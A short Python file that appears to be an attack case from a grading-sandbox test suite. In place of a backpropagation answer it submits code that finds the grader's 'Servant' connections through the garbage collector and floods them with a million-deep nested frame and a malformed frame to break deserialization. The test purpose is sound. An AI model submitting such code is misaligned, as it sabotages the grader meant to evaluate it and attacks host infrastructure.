"""Sends a frame of lists that is nested a million deep.

deserves: 7
"""

BACKWARD = r"""
import gc, struct, sys

def backward_propagation(x, theta):
    wire = sys.modules["inside.wire"]
    frame = b"l\x01\0\0\0" * 1_000_000 + b"N"
    for thing in gc.get_objects():
        if type(thing).__name__ == "Servant":
            wire.send(thing.connection, frame)
            wire.send(thing.connection, b"a" + b"s\3\0\0\0<f8" + b"t\x01\0\0\0" + b"i\x09\0" + b"\xff" * 8 + b"\0b\0\0\0\0")
    return theta
"""


def attack(work):
    work.answer_rightly("forward", "gradient_check")
    work.answer("backward", BACKWARD)
